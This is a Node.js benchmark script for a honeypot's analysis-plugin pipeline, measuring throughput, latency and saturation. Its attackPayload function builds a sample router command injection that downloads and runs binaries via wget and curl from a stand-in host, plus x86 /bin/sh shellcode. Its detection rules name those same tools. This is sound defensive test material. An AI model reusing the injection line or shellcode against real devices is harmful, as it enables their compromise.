#!/usr/bin/env node
// npm run bench:plugins: the plugin pipeline of honeytrap-ts, measured from
// outside with the same client (attackload) as `npm run bench`, each speed as
// a ratio to a reference measured in the same run.
//
// Plugins: bench/plugins/, three of them on every attack: find-commands
// (worker engine: wget/curl command lines and URLs), byte-entropy and
// shellcode-scan (wasm engine, AssemblyScript compiled here with asc against
// the SDK's assembly helpers). They are built into a temporary folder.
// With BENCH_PLUGINS=shipped: instead, every analysis plugin shipped in
// plugins/ (those consuming attacks; not the outputs, not clamav, which needs
// a clamd), built with `honeytrap-plugin build` and installed as an operator
// would (the folder copied, tests left out); xmatch gets 10 rules. The
// download plugins find the URLs of the attack but may fetch only from the
// attacker (198.51.100.23 is not), so they record refused attempts.
//
// Targets, each in a namespace pair of its own (attacker 10.99.N.1, honeypot
// 10.99.N.2) and up for the whole run: the daemon with no plugins, the daemon
// with the 3 plugins and a backlog large enough that nothing is shed, the
// daemon with the 3 plugins and a small backlog (BENCH_MAX_BACKLOG), and
// `ceiling`. The daemons use the listen capture on ports 20000-20099.
//
// 1. Throughput: BENCH_ATTACKS attacks of 1 KB (an HTTP exploit with wget and
//    curl lines, a NOP sled and x86 shellcode, then filler bytes; half-close)
//    at concurrency 16, to ceiling, the daemon without plugins and the daemon
//    with plugins. For the last: attacks/s from the first attack sent to all
//    plugin results stored (control socket /status: processed == submitted),
//    the latency percentiles /status reports, the plugin run counters
//    (/plugins), and that every attack has its 3 results (all attacks read
//    through the control socket, 100 sampled with `honeytrap attacks show ID
//    --json`).
//    Then the added latency below capacity: 5,000 attacks paced at
//    BENCH_PACED_RATE per second (bench/paced-client.mjs), /status percentiles.
// 2. Core under plugin saturation: conn/s at concurrency 16 with 200 B and
//    half-close for BENCH_LOAD_SECONDS, against the daemon without plugins,
//    the daemon whose plugins saturate, and ceiling, interleaved, BENCH_ROUNDS
//    times (medians reported); the CPU used in each target's namespace (the
//    main thread, and the rest: other threads and plugin processes); what was
//    shed (/status plugins.shed) and the daemon's "plugins saturated" warning.
//
// Prints two tables and writes them with the raw figures to
// .bench/plugins.json. Needs root (namespaces), gcc and a built core (built
// here with tsc -b).
//
// Environment: BENCH_SHARED (folder of attackload.c/ceiling.c, default
// ../shared/bench), BENCH_ATTACKS (default 20000), BENCH_LOAD_SECONDS
// (default 10), BENCH_ROUNDS (default 3), BENCH_MAX_BACKLOG (default 500),
// BENCH_PACED_RATE (default 250).
import {
  copyFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  writeFileSync,
} from 'node:fs';
import { loadavg } from 'node:os';
import { join } from 'node:path';
import asc from 'assemblyscript/asc';
import {
  BIN,
  OUT,
  REPO,
  attackload,
  buildAll,
  cell,
  checkPrerequisites,
  cleanup,
  control,
  fail,
  fmt,
  formatTable,
  inNs,
  makePair,
  parseResult,
  payloadArg,
  ratio,
  run,
  runMeta,
  say,
  sh,
  sleep,
  startCeiling,
  startDaemon,
  status,
  tempDir,
} from './lib.mjs';

const ATTACKS = Number(process.env.BENCH_ATTACKS ?? 20000);
const LOAD_SECONDS = Number(process.env.BENCH_LOAD_SECONDS ?? 10);
const ROUNDS = Number(process.env.BENCH_ROUNDS ?? 3);
const SATURATED_BACKLOG = Number(process.env.BENCH_MAX_BACKLOG ?? 500);
const PACED_RATE = Number(process.env.BENCH_PACED_RATE ?? 250);
/** More than the 4,096 latencies /status keeps, so that they all come from the paced run. */
const PACED_ATTACKS = 5000;
const PACED_CLIENT = join(REPO, 'bench', 'paced-client.mjs');
const CONCURRENCY = 16;
const WARMUP_ATTACKS = 1000;
const SAMPLE = 100;
const PORTS = '20000-20099';
const PLUGIN_SOURCES = join(REPO, 'bench', 'plugins');
const SHIPPED = process.env.BENCH_PLUGINS === 'shipped';
/** Plugins' configs for the shipped mode: xmatch with rules of each kind. */
const SHIPPED_CONFIG = {
  xmatch: {
    rules: [
      { name: 'wget', type: 'string', pattern: 'wget ' },
      { name: 'curl', type: 'string', pattern: 'curl ', caseInsensitive: true },
      { name: 'chmod', type: 'string', pattern: 'chmod +x' },
      { name: 'bin-sh', type: 'string', pattern: '/bin/sh' },
      { name: 'elf', type: 'hex', pattern: '7f 45 4c 46' },
      { name: 'nop-sled', type: 'hex', pattern: '90 90 90 90 90 90 90 90' },
      { name: 'int80', type: 'hex', pattern: 'b0 0b cd 80' },
      { name: 'ipv4-url', type: 'regex', pattern: 'https?://\\d+\\.\\d+\\.\\d+\\.\\d+/' },
      { name: 'luci', type: 'regex', pattern: '/cgi-bin/luci/;stok=' },
      { name: 'mozi', type: 'string', pattern: 'Mozi.m' },
    ],
  },
};
/** The SDK's AssemblyScript library (@honeytrap/sdk/assembly), what a plugin author imports. */
const SDK_ASSEMBLY = join(REPO, 'sdk', 'assembly');
/** The flags the wasm engine wants (docs/plugin-wasm.md). */
const ASC_FLAGS = ['--runtime', 'incremental', '--exportRuntime', '--importMemory', '-O3'];

// ---------------------------------------------------------------- plugins

/** Compiles DIR/index.as (AssemblyScript) with the SDK's library; the .wasm bytes. */
async function compileWasm(dir) {
  const stderr = asc.createMemoryStream();
  let wasm;
  // The sources are *.as so that tsc, eslint and prettier leave them alone;
  // asc reads them as *.ts through its readFile hook.
  const { error } = await asc.main(
    ['index.ts', '--baseDir', dir, '--outFile', 'plugin.wasm', ...ASC_FLAGS],
    {
      stdout: asc.createMemoryStream(),
      stderr,
      readFile: (file, baseDir) => {
        if (!file.endsWith('.ts')) return null;
        const sdk = /node_modules[\\/]@honeytrap[\\/]sdk[\\/]assembly[\\/](.*)$/.exec(file);
        try {
          if (sdk) return readFileSync(join(SDK_ASSEMBLY, sdk[1]), 'utf8');
          return readFileSync(join(baseDir, `${file.slice(0, -3)}.as`), 'utf8');
        } catch {
          return null;
        }
      },
      writeFile: (file, contents) => {
        if (file.endsWith('plugin.wasm') && typeof contents !== 'string') wasm = contents;
      },
    },
  );
  if (error || !wasm) throw new Error(`asc ${dir}: ${error?.message ?? 'no output'}\n${stderr}`);
  return wasm;
}

/** Builds bench/plugins/* into ROOT/plugins (a wasm plugin's folder gets plugin.json and plugin.wasm only). */
async function buildPlugins(root) {
  const out = join(root, 'plugins');
  const built = [];
  for (const name of readdirSync(PLUGIN_SOURCES)) {
    const src = join(PLUGIN_SOURCES, name);
    const dst = join(out, name);
    mkdirSync(dst, { recursive: true });
    const manifest = JSON.parse(readFileSync(join(src, 'plugin.json'), 'utf8'));
    if (manifest.engine === 'wasm') {
      copyFileSync(join(src, 'plugin.json'), join(dst, 'plugin.json'));
      writeFileSync(join(dst, manifest.entry), await compileWasm(src));
    } else {
      for (const f of readdirSync(src)) copyFileSync(join(src, f), join(dst, f));
    }
    built.push({ name: manifest.name, engine: manifest.engine, limits: manifest.limits });
  }
  return { dir: out, plugins: built };
}

/** BENCH_PLUGINS=shipped: the analysis plugins of plugins/, built and copied into ROOT/plugins. */
function shippedPlugins(root) {
  const out = join(root, 'plugins');
  const built = [];
  for (const name of readdirSync(join(REPO, 'plugins')).sort()) {
    const src = join(REPO, 'plugins', name);
    if (!existsSync(join(src, 'plugin.json'))) continue;
    const manifest = JSON.parse(readFileSync(join(src, 'plugin.json'), 'utf8'));
    if (!manifest.consumes.attacks || manifest.consumes.reports || name === 'clamav') continue;
    sh(process.execPath, [join(REPO, 'sdk', 'bin', 'honeytrap-plugin.js'), 'build', src]);
    cpSync(src, join(out, name), {
      recursive: true,
      filter: (f) => !/^\/?(test|node_modules)(\/|$)/.test(f.slice(src.length)),
    });
    built.push({ name: manifest.name, engine: manifest.engine, limits: manifest.limits ?? {} });
  }
  return { dir: out, plugins: built };
}

/**
 * The 1 KB attack: an HTTP exploit with wget and curl command lines and
 * URLs, a 64-byte NOP sled, classic x86 execve("/bin/sh") shellcode, then
 * filler bytes (fixed pseudo-random) up to 1024.
 */
function attackPayload() {
  const http = Buffer.from(
    'POST /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\n' +
      'Host: 10.99.0.2\r\nUser-Agent: Mozilla/5.0\r\n' +
      'Content-Type: application/x-www-form-urlencoded\r\n\r\n' +
      'operation=write&country=$(cd /tmp; wget http://198.51.100.23/bins/x86 -O .x; ' +
      'curl -s http://198.51.100.23/bins/arm7 -o .a; chmod +x .x .a; ./.x; ./.a)\r\n',
    'latin1',
  );
  const sled = Buffer.alloc(64, 0x90);
  const shellcode = Buffer.from(
    '31c050682f2f7368682f62696e89e3505389e1b00bcd80', // xor eax,eax; push "//sh" "/bin"; execve; int 0x80
    'hex',
  );
  const filler = Buffer.alloc(1024 - http.length - sled.length - shellcode.length);
  let x = 12345;
  for (let i = 0; i < filler.length; i++) {
    x = (x * 1103515245 + 12345) >>> 0;
    filler[i] = x >>> 24;
  }
  return Buffer.concat([http, sled, shellcode, filler]);
}

// ---------------------------------------------------------------- daemon helpers

function daemonConfig(pair, plugins) {
  return {
    sensor: 'bench-plugins',
    capture: { type: 'listen', addresses: [pair.target] },
    ports: [{ port: PORTS }],
    log: { level: 'warn', format: 'json' },
    plugins: SHIPPED ? { ...plugins, config: SHIPPED_CONFIG } : plugins,
  };
}

async function waitReady(d, count) {
  const until = Date.now() + 60_000;
  for (;;) {
    const s = await status(d.sock);
    if (s.plugins.ready === count) return;
    if (Date.now() > until) {
      const list = await control(d.sock, '/plugins');
      throw new Error(
        `${d.name}: ${s.plugins.ready} of ${count} plugins ready after 60 s: ${JSON.stringify(list)}`,
      );
    }
    await sleep(200);
  }
}

/** No session open, nothing waiting to be stored, no attack waiting for plugins. */
function idle(s) {
  return s.activeSessions === 0 && s.pendingWrites === 0 && s.plugins.backlog === 0;
}

async function waitIdle(d, timeoutMs = 600_000) {
  const until = Date.now() + timeoutMs;
  for (;;) {
    const s = await status(d.sock);
    if (idle(s)) return s;
    if (Date.now() > until) throw new Error(`${d.name} not idle after ${timeoutMs / 1000} s`);
    await sleep(50);
  }
}

/** Per-plugin counters, by name. */
async function pluginCounters(d) {
  const list = await control(d.sock, '/plugins');
  return Object.fromEntries(list.map((p) => [p.name, { ...p.counters, state: p.state }]));
}

function countersDelta(after, before) {
  const out = {};
  for (const [name, c] of Object.entries(after)) {
    const b = before[name] ?? {};
    out[name] = {
      state: c.state,
      runs: c.runs - (b.runs ?? 0),
      ok: c.ok - (b.ok ?? 0),
      failed: c.failed - (b.failed ?? 0),
      timeouts: c.timeouts - (b.timeouts ?? 0),
    };
  }
  return out;
}

function percentile(values, q) {
  const sorted = [...values].sort((a, b) => a - b);
  return sorted.length ? sorted[Math.min(sorted.length - 1, Math.floor(q * sorted.length))] : NaN;
}

function median(values) {
  const sorted = [...values].sort((a, b) => a - b);
  const m = sorted.length >> 1;
  return sorted.length % 2 ? sorted[m] : (sorted[m - 1] + sorted[m]) / 2;
}

const CLK_TCK = Number(sh('getconf', ['CLK_TCK']).trim()) || 100;

function cpuTicks(statFile) {
  try {
    const text = readFileSync(statFile, 'utf8');
    const f = text.slice(text.lastIndexOf(')') + 2).split(' ');
    return Number(f[11]) + Number(f[12]); // utime + stime
  } catch {
    return 0; // exited
  }
}

/**
 * CPU seconds used so far in the target's honeypot namespace: by the main
 * thread of its process, and by everything else there (the daemon's other
 * threads: wasm plugin threads, libuv's pool for LevelDB, V8; and the worker
 * plugin's process).
 */
function cpuSeconds(t) {
  let total = 0;
  for (const pid of sh('ip', ['netns', 'pids', t.pair.honeypot]).split(/\s+/).filter(Boolean))
    total += cpuTicks(`/proc/${pid}/stat`);
  const main = cpuTicks(`/proc/${t.pid}/task/${t.pid}/stat`);
  return { main: main / CLK_TCK, other: (total - main) / CLK_TCK };
}

/** Runs TASKS (functions returning promises) LIMIT at a time. */
async function pool(tasks, limit) {
  const out = new Array(tasks.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: limit }, async () => {
      while (next < tasks.length) {
        const i = next++;
        out[i] = await tasks[i]();
      }
    }),
  );
  return out;
}

// ---------------------------------------------------------------- 1. throughput

const burstArgs = (pair, payload, count = ATTACKS) => [
  '-c',
  String(CONCURRENCY),
  '-n',
  String(count),
  '-d',
  '0',
  '-P',
  payload,
  '-H',
  pair.target,
  PORTS,
];

/** Every attack the daemon holds has a result from each plugin; 100 are also read with the CLI. */
async function verifyResults(d, names, expected) {
  const attacks = await control(d.sock, `/attacks?limit=${expected + 1000}`, {
    timeoutMs: 300_000,
  });
  // Every plugin ran on the attack; no record (artifact tasks included) failed.
  const complete = (a) =>
    names.every((n) => a.plugins?.[n]?.status === 'ok') &&
    Object.values(a.plugins ?? {}).every((r) => r.status === 'ok');
  const durations = attacks
    .filter(complete)
    .map((a) => Math.max(...names.map((n) => a.plugins[n].durationMs)));
  const findings = Object.fromEntries(
    names.map((n) => [
      n,
      attacks.reduce((sum, a) => sum + (a.plugins?.[n]?.findings.length ?? 0), 0),
    ]),
  );
  // A random sample, read the way an operator would.
  const ids = attacks.map((a) => a.id);
  const sample = [];
  while (sample.length < Math.min(SAMPLE, ids.length)) {
    const id = ids.splice(Math.floor(Math.random() * ids.length), 1)[0];
    sample.push(id);
  }
  const shown = await pool(
    sample.map((id) => async () => {
      const r = await run(
        process.execPath,
        [BIN, 'attacks', 'show', id, '--json', '-c', d.configPath],
        60_000,
      );
      if (r.code !== 0) return { id, ok: false, why: r.stderr.trim() };
      const a = JSON.parse(r.stdout);
      return { id, ok: a.id === id && complete(a), plugins: Object.keys(a.plugins ?? {}) };
    }),
    4,
  );
  return {
    stored: attacks.length,
    withAllResults: attacks.filter(complete).length,
    findings,
    pluginMsP50: percentile(durations, 0.5),
    pluginMsP99: percentile(durations, 0.99),
    sampled: shown.length,
    sampledOk: shown.filter((s) => s.ok).length,
    sampleFailures: shown.filter((s) => !s.ok).slice(0, 5),
  };
}

async function throughput(targets, names, payload) {
  const { ceiling, none, plugins } = targets;
  const out = {};
  for (const t of [ceiling, none]) {
    say(`${t.name}: ${ATTACKS} attacks of 1 KB at concurrency ${CONCURRENCY}`);
    out[t.key] = await attackload(t.pair, burstArgs(t.pair, payload), 600_000);
    if (t.sock) await waitIdle(t);
  }

  const d = plugins;
  say(`${d.name}: warm-up, ${WARMUP_ATTACKS} attacks`);
  await attackload(d.pair, burstArgs(d.pair, payload, WARMUP_ATTACKS), 600_000);
  await waitIdle(d);
  const before = await status(d.sock);
  const countersBefore = await pluginCounters(d);
  say(
    `${d.name}: ${ATTACKS} attacks of 1 KB at concurrency ${CONCURRENCY}, until all results are stored`,
  );
  const samples = [];
  const t0 = performance.now();
  let load;
  let loadError;
  const sending = attackload(d.pair, burstArgs(d.pair, payload), 600_000).then(
    (r) => (load = r),
    (err) => (loadError = err),
  );
  let done;
  const until = Date.now() + 900_000;
  for (;;) {
    const s = await status(d.sock);
    const t = (performance.now() - t0) / 1000;
    const p = s.plugins;
    samples.push({
      t,
      stored: s.attacksStored - before.attacksStored,
      submitted: p.submitted - before.plugins.submitted,
      processed: p.processed - before.plugins.processed,
      backlog: p.backlog,
    });
    if (loadError) throw loadError;
    if (
      load &&
      idle(s) &&
      p.processed + p.shed === p.submitted &&
      s.attacksStored - before.attacksStored === p.submitted - before.plugins.submitted
    ) {
      done = { t, status: s };
      break;
    }
    if (Date.now() > until) throw new Error(`${d.name}: results not all stored after 900 s`);
    await sleep(50);
  }
  await sending;
  const after = done.status;
  const processed = after.plugins.processed - before.plugins.processed;
  const at = (share) => samples.find((x) => x.processed >= share * processed)?.t ?? NaN;
  const steady = (0.8 * processed) / (at(0.9) - at(0.1));
  const counters = countersDelta(await pluginCounters(d), countersBefore);
  say(`${d.name}: reading every attack back, ${SAMPLE} of them with honeytrap attacks show`);
  const verified = await verifyResults(d, names, after.attacksStored);
  out.plugins = {
    load,
    seconds: done.t,
    stored: after.attacksStored - before.attacksStored,
    submitted: after.plugins.submitted - before.plugins.submitted,
    processed,
    shed: after.plugins.shed - before.plugins.shed,
    perSecond: processed / done.t,
    steadyPerSecond: steady,
    peakBacklog: Math.max(...samples.map((x) => x.backlog)),
    latencyMs: after.plugins.latencyMs,
    counters,
    verified,
    samples: samples.filter((_, i) => i % 10 === 0),
  };
  return out;
}

/** The added latency below the pipeline's capacity: PACED_ATTACKS at PACED_RATE per second. */
async function pacedLatency(d, payload) {
  say(`${d.name}: ${PACED_ATTACKS} attacks of 1 KB paced at ${PACED_RATE}/s`);
  const before = await status(d.sock);
  const r = await run(
    'ip',
    inNs(d.pair.attacker, [
      process.execPath,
      PACED_CLIENT,
      d.pair.target,
      PORTS,
      String(PACED_RATE),
      String(PACED_ATTACKS),
      payload.toString('hex'),
    ]),
    ((PACED_ATTACKS / PACED_RATE) * 2 + 60) * 1000,
  );
  if (r.code !== 0) throw new Error(`paced client exited ${r.code}: ${r.stderr}`);
  const load = parseResult(r.stdout);
  const after = await waitIdle(d);
  return {
    load,
    processed: after.plugins.processed - before.plugins.processed,
    shed: after.plugins.shed - before.plugins.shed,
    latencyMs: after.plugins.latencyMs,
  };
}

// ---------------------------------------------------------------- 2. saturation

const loadArgs = (pair, seconds) => [
  '-c',
  String(CONCURRENCY),
  '-p',
  '200',
  '-H',
  '-d',
  String(seconds),
  pair.target,
  PORTS,
];

async function saturation(targets) {
  const order = [targets.none, targets.saturated, targets.ceiling];
  say('saturation: 2 s warm-up on each target');
  for (const t of order) {
    await attackload(t.pair, loadArgs(t.pair, 2), 60_000);
    if (t.sock) await waitIdle(t);
  }
  const rounds = [];
  for (let round = 1; round <= ROUNDS; round++) {
    const r = {};
    for (const t of order) {
      say(
        `round ${round}/${ROUNDS}, ${t.name}: ${LOAD_SECONDS} s at concurrency ${CONCURRENCY}, 200 B + half-close`,
      );
      const before = t.sock ? await status(t.sock) : undefined;
      const cpuBefore = cpuSeconds(t);
      let peakBacklog = 0;
      let sampling = Boolean(t.sock);
      const sampler = (async () => {
        while (sampling) {
          peakBacklog = Math.max(peakBacklog, (await status(t.sock)).plugins.backlog);
          await sleep(250);
        }
      })();
      const load = await attackload(
        t.pair,
        loadArgs(t.pair, LOAD_SECONDS),
        LOAD_SECONDS * 1000 + 60_000,
      );
      const cpuAfter = cpuSeconds(t);
      sampling = false;
      await sampler;
      const cpu = {
        main: (cpuAfter.main - cpuBefore.main) / load.elapsed,
        other: (cpuAfter.other - cpuBefore.other) / load.elapsed,
      };
      r[t.key] = { load, cpu };
      if (t.sock) {
        const started = performance.now();
        const after = await waitIdle(t);
        const p = after.plugins;
        r[t.key] = {
          load,
          cpu,
          stored: after.attacksStored - before.attacksStored,
          submitted: p.submitted - before.plugins.submitted,
          processed: p.processed - before.plugins.processed,
          shed: p.shed - before.plugins.shed,
          peakBacklog,
          drainSeconds: (performance.now() - started) / 1000,
          balanced: p.submitted === p.processed + p.shed,
        };
      }
      await sleep(1000);
    }
    rounds.push(r);
  }
  const log = targets.saturated.log();
  const warnings = log
    .split('\n')
    .filter((l) => l.includes('plugins saturated'))
    .map((l) => {
      try {
        return JSON.parse(l);
      } catch {
        return { raw: l };
      }
    });
  return { rounds, warnings, counters: await pluginCounters(targets.saturated) };
}

// ---------------------------------------------------------------- report

function report(tp, sat, meta, built) {
  const names = built.plugins.map((b) => b.name);
  const p = tp.plugins;
  const v = p.verified;
  const latency = (l) => (l.samples ? `${fmt(l.p50)} / ${fmt(l.p99)}` : 'n/a (0 samples)');
  const engineOf = Object.fromEntries(built.plugins.map((b) => [b.name, b.engine]));
  const rows1 = [
    [
      '1 KB attacks sent (attackload c=16, half-close): completed / failed',
      `${cell(p.load.completed)} / ${cell(p.load.failed)}`,
      '',
    ],
    ['attacks/s through the pipeline (first sent to all results stored)', cell(p.perSecond), ''],
    ['  / conn/s of the same daemon without plugins', '', ratio(p.perSecond, tp.none.conn_per_s)],
    ['  / conn/s of ceiling', '', ratio(p.perSecond, tp.ceiling.conn_per_s)],
    [
      'attacks/s through the pipeline, steady (10 % to 90 % processed)',
      cell(p.steadyPerSecond),
      '',
    ],
    [
      `conn/s the core accepted meanwhile (${names.length} plugins)`,
      cell(p.load.conn_per_s),
      ratio(p.load.conn_per_s, tp.none.conn_per_s) + ' of no plugins',
    ],
    [
      'conn/s, same load, daemon without plugins',
      cell(tp.none.conn_per_s),
      ratio(tp.none.conn_per_s, tp.ceiling.conn_per_s) + ' of ceiling',
    ],
    ['conn/s, same load, ceiling', cell(tp.ceiling.conn_per_s), ''],
    ['seconds from first attack to all results stored', cell(p.seconds), ''],
    ['peak backlog (attacks waiting for plugins)', cell(p.peakBacklog), ''],
    ['shed', cell(p.shed), ''],
    [
      `added latency p50 / p99 ms, end of the burst (/status, last ${cell(p.latencyMs.samples)})`,
      latency(p.latencyMs),
      '',
    ],
    [
      `added latency p50 / p99 ms, ${PACED_RATE} attacks/s paced (/status, last ${cell(tp.paced.latencyMs.samples)})`,
      latency(tp.paced.latencyMs),
      '',
    ],
    [
      `  paced: attacks sent / processed / shed`,
      `${cell(tp.paced.load.completed)} / ${cell(tp.paced.processed)} / ${cell(tp.paced.shed)}`,
      '',
    ],
    [
      'plugin task time p50 / p99 ms, burst (slowest durationMs of the plugins; runner queue included)',
      `${cell(v.pluginMsP50)} / ${cell(v.pluginMsP99)}`,
      '',
    ],
    ...Object.entries(p.counters).map(([name, c]) => [
      `${name} (${engineOf[name]}): runs / ok / failed / timeouts`,
      `${cell(c.runs)} / ${cell(c.ok)} / ${cell(c.failed)} / ${cell(c.timeouts)}`,
      '',
    ]),
    ...Object.entries(v.findings).map(([name, n]) => [`findings ${name}`, cell(n), '']),
    [
      `stored attacks with ${names.length} ok results (warm-up included)`,
      `${cell(v.withAllResults)} of ${cell(v.stored)}`,
      '',
    ],
    [
      `sampled with honeytrap attacks show --json: ${names.length} ok results`,
      `${v.sampledOk} of ${v.sampled}`,
      '',
    ],
  ];
  const table1 = formatTable(
    [`throughput: ${names.length} plugins, 1 KB attacks`, 'value', 'ratio'],
    rows1,
  );

  const med = (key, f) => median(sat.rounds.map((r) => f(r[key])));
  const conn = (key) => med(key, (x) => x.load.conn_per_s);
  const p99 = (key) => med(key, (x) => x.load.conn_p99);
  const failed = (key) => sat.rounds.reduce((n, r) => n + r[key].load.failed, 0);
  const sum = (f) => sat.rounds.reduce((n, r) => n + f(r.saturated), 0);
  const rows2 = [
    [
      `conn/s c=16, 200 B + half-close (median of ${ROUNDS})`,
      cell(conn('none')),
      cell(conn('saturated')),
      cell(conn('ceiling')),
      ratio(conn('saturated'), conn('none')),
      ratio(conn('none'), conn('ceiling')),
      ratio(conn('saturated'), conn('ceiling')),
    ],
    [
      '  connect p99 ms (median)',
      cell(p99('none')),
      cell(p99('saturated')),
      cell(p99('ceiling')),
      ratio(p99('saturated'), p99('none')),
      '',
      '',
    ],
    [
      'CPU, cores: main thread (median)',
      cell(med('none', (x) => x.cpu.main)),
      cell(med('saturated', (x) => x.cpu.main)),
      cell(med('ceiling', (x) => x.cpu.main)),
      '',
      '',
      '',
    ],
    [
      'CPU, cores: other threads, plugin processes (median)',
      cell(med('none', (x) => x.cpu.other)),
      cell(med('saturated', (x) => x.cpu.other)),
      cell(med('ceiling', (x) => x.cpu.other)),
      '',
      '',
      '',
    ],
    [
      '  failed connections (all rounds)',
      cell(failed('none')),
      cell(failed('saturated')),
      cell(failed('ceiling')),
      '',
      '',
      '',
    ],
    [
      '  attacks stored / connections completed',
      `${cell(sat.rounds.reduce((n, r) => n + r.none.stored, 0))} / ${cell(sat.rounds.reduce((n, r) => n + r.none.load.completed, 0))}`,
      `${cell(sum((x) => x.stored))} / ${cell(sum((x) => x.load.completed))}`,
      '',
      '',
      '',
      '',
    ],
    ['plugins: processed (all rounds)', '', cell(sum((x) => x.processed)), '', '', '', ''],
    ['plugins: shed (status plugins.shed)', '', cell(sum((x) => x.shed)), '', '', '', ''],
    [
      'plugins: shed share of attacks',
      '',
      `${((100 * sum((x) => x.shed)) / sum((x) => x.submitted)).toFixed(1)} %`,
      '',
      '',
      '',
      '',
    ],
    [
      'plugins: peak backlog',
      '',
      `${cell(Math.max(...sat.rounds.map((r) => r.saturated.peakBacklog)))} (max ${SATURATED_BACKLOG})`,
      '',
      '',
      '',
      '',
    ],
    [
      'plugins: submitted = processed + shed',
      '',
      sat.rounds.every((r) => r.saturated.balanced) ? 'yes' : 'NO',
      '',
      '',
      '',
      '',
    ],
    ['"plugins saturated" warnings logged', '', cell(sat.warnings.length), '', '', '', ''],
  ];
  const table2 = formatTable(
    [
      'core under plugin saturation',
      '(a) no plugins',
      `(b) ${names.length} plugins, maxBacklog ${SATURATED_BACKLOG}`,
      'ceiling',
      '(b)/(a)',
      '(a)/ceiling',
      '(b)/ceiling',
    ],
    rows2,
  );
  const perRound = sat.rounds
    .map(
      (r, i) =>
        `round ${i + 1}: ${['none', 'saturated', 'ceiling'].map((k) => cell(r[k].load.conn_per_s)).join(' / ')}`,
    )
    .join('; ');
  const notes = [
    `machine: ${meta.cpus} CPUs (shared), load average at start ${meta.loadavg.map((x) => x.toFixed(2)).join(' ')}, at end ${meta.loadavgEnd.map((x) => x.toFixed(2)).join(' ')}`,
    `plugins: ${built.plugins.map((b) => `${b.name} (${b.engine}, concurrency ${b.limits.concurrency})`).join(', ')}; daemons on the listen capture, ports ${PORTS}; ceiling sends a 19-byte banner, honeytrap-ts none`,
    `conn/s per round (no plugins / saturated / ceiling): ${perRound}`,
    'added latency: from the attack stored to its plugin results stored, as the daemon measures it; at the end of a burst it is mostly time waiting in the backlog',
    `CPU: of the processes in the target's namespace while attackload ran, in cores (${meta.cpus} in all, shared with attackload, the kernel and other tenants)`,
  ];
  return {
    text: `${table1}\n\n${table2}\n\n${notes.map((n) => `- ${n}`).join('\n')}`,
    rows: { throughput: rows1, saturation: rows2 },
  };
}

// ---------------------------------------------------------------- main

async function main() {
  checkPrerequisites(['gcc', 'ip']);
  buildAll();
  const meta = runMeta({ attacks: ATTACKS, loadSeconds: LOAD_SECONDS, rounds: ROUNDS });
  const root = tempDir('honeytrap-bench-plugins-');
  say(SHIPPED ? 'building the shipped plugins' : 'compiling the plugins (asc for the wasm ones)');
  const built = SHIPPED ? shippedPlugins(root) : await buildPlugins(root);
  const names = built.plugins.map((b) => b.name);
  const attack = attackPayload();

  const ceilingPair = makePair('c', 23);
  const ceiling = { ...(await startCeiling(ceilingPair, PORTS)), key: 'ceiling' };
  const start = async (key, tag, subnet, plugins) => {
    const pair = makePair(tag, subnet);
    const name = {
      none: 'no plugins',
      plugins: `${names.length} plugins`,
      saturated: 'saturating plugins',
    }[key];
    const d = await startDaemon({
      name,
      pair,
      dir: root,
      tag: key,
      config: daemonConfig(pair, plugins),
    });
    if (plugins.dirs.length) await waitReady(d, names.length);
    return { ...d, key };
  };
  const none = await start('none', 'n', 20, { dirs: [] });
  const plugins = await start('plugins', 'p', 21, {
    dirs: [built.dir],
    maxBacklog: Math.min(1_000_000, ATTACKS + WARMUP_ATTACKS + 1000),
  });
  const saturated = await start('saturated', 's', 22, {
    dirs: [built.dir],
    maxBacklog: SATURATED_BACKLOG,
  });

  const tp = await throughput({ ceiling, none, plugins }, names, payloadArg(attack));
  tp.paced = await pacedLatency(plugins, attack);
  // The first phase's plugins stop here, so they take no CPU from the second.
  const pluginsDaemon = await plugins.stop();
  const sat = await saturation({ none, saturated, ceiling });
  const daemons = {
    none: await none.stop(),
    plugins: pluginsDaemon,
    saturated: await saturated.stop(),
  };
  await ceiling.stop();
  meta.loadavgEnd = loadavg();
  cleanup();

  const { text, rows } = report(tp, sat, meta, built);
  process.stdout.write(`\n${text}\n`);
  writeFileSync(
    join(OUT, 'plugins.json'),
    JSON.stringify(
      { meta, plugins: built.plugins, rows, throughput: tp, saturation: sat, daemons },
      null,
      2,
    ) + '\n',
  );
  say(`wrote ${join(OUT, 'plugins.json')}`);
}

main().catch(fail);
